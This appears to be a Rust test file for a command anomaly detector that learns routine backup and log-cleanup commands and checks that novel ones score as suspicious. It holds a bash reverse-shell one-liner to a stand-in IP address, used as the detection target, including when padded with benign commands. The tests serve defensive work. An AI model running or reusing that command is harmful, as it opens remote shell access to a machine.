mod protocols;
mod quality;

use super::*;
use crate::{features::Command, normalise};

fn features(line: &str) -> Features {
    let argv = normalise::command_line(["bash", "-c", line].map(str::to_owned).to_vec());
    Features::of(&Command {
        executable: "/usr/bin/bash",
        parent: "/usr/bin/python3",
        argv: &argv,
    })
}

fn learned() -> Scorer {
    let mut index = Index::default();
    for number in 0..60 {
        index.insert(&features(&format!(
            "tar czf /backup/db-{number}.tar.gz /data/shard{number} && ls -l"
        )));
        index.insert(&features(&format!(
            "find /data/shard{number} -name '*.log' -mtime +{number} -delete"
        )));
    }
    Scorer::calibrate(index)
}

const SHELL: &str = "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1";

#[test]
fn what_was_learned_is_no_news_and_a_reverse_shell_is() {
    let scorer = learned();
    let pool = Pool::reference();
    let judge = |line: &str| scorer.score(&features(line), &pool, &mut Scratch::default());
    let known = judge("tar czf /backup/db-7.tar.gz /data/shard7 && ls -l");
    assert_eq!((known.parts.distance, known.parts.unseen), (0.0, 0.0));
    assert!(known.p > 0.2, "{known:?}");
    let shell = judge(SHELL);
    assert!(shell.p < 0.01 && shell.novelty > 2.0 * known.novelty + 3.0, "{shell:?}");
}

#[test]
fn padding_with_learned_words_at_either_end_does_not_hide_a_shell() {
    let scorer = learned();
    let pool = Pool::reference();
    let padding = "tar czf /backup/db-7.tar.gz /data/shard7 && ls -l; find /data/shard7 -name '*.log'; ".repeat(3);
    let plain = scorer.score(&features(SHELL), &pool, &mut Scratch::default());
    for padded in [
        format!("{padding}{SHELL}"),
        format!("{SHELL}; {padding}"),
        format!("{padding}{SHELL}; {padding}"),
    ] {
        let score = scorer.score(&features(&padded), &pool, &mut Scratch::default());
        assert!(score.parts.unseen >= 0.9 * plain.parts.unseen, "{score:?}");
        assert!(score.parts.capability >= plain.parts.capability, "{score:?}");
        assert!(score.p < 0.01, "{score:?}");
    }
}

#[test]
fn the_explanation_names_what_is_new() {
    let scorer = learned();
    let argv = normalise::command_line(["bash", "-c", SHELL].map(str::to_owned).to_vec());
    let command = Command {
        executable: "/usr/bin/bash",
        parent: "/usr/bin/python3",
        argv: &argv,
    };
    let explanation = explain(scorer.index(), &command);
    assert!(
        explanation.capabilities.contains(&"opens a socket".to_owned()),
        "{explanation:?}"
    );
    assert!(explanation.strange.contains(&"bash".to_owned()), "{explanation:?}");
}

#[test]
fn scores_are_the_same_to_the_bit_however_often_they_are_made() {
    let (one, two) = (learned(), learned());
    let pool = Pool::reference();
    for line in [SHELL, "ls", "", "find /data/shard3 -name '*.log'"] {
        let score = |scorer: &Scorer| {
            let score = scorer.score(&features(line), &pool, &mut Scratch::default());
            (score.novelty.to_bits(), score.p.to_bits(), score.nearest)
        };
        assert_eq!(score(&one), score(&two));
    }
}

#[test]
fn nothing_learned_yet_still_gives_a_score() {
    let scorer = Scorer::calibrate(Index::default());
    let score = scorer.score(&features(SHELL), &Pool::reference(), &mut Scratch::default());
    assert!(score.novelty.is_finite() && (0.0..=1.0).contains(&score.p), "{score:?}");
}
